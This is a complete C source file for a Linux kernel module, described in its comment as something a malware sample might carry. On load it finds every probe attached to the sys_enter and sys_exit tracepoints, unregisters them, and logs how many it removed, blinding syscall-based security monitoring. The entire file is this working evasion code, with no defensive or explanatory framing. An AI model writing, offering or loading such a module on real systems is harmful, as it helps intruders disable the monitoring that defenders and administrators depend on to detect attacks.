/* A kernel module as a sample may bring one: looks for whoever watches system calls, counts them, and takes them off. */
#include <linux/init.h>
#include <linux/module.h>
#include <linux/tracepoint.h>

static int found;

static void take_off(struct tracepoint *tracepoint, void *unused)
{
	struct tracepoint_func *one;

	if (strcmp(tracepoint->name, "sys_enter") && strcmp(tracepoint->name, "sys_exit"))
		return;
	while ((one = rcu_dereference_raw(tracepoint->funcs)) && one->func) {
		found++;
		if (tracepoint_probe_unregister(tracepoint, one->func, one->data))
			break;
	}
}

static int __init begin(void)
{
	for_each_kernel_tracepoint(take_off, NULL);
	pr_info("blinder: %d taken off\n", found);
	return 0;
}

static void __exit end(void)
{
}

module_init(begin);
module_exit(end);
MODULE_LICENSE("GPL");
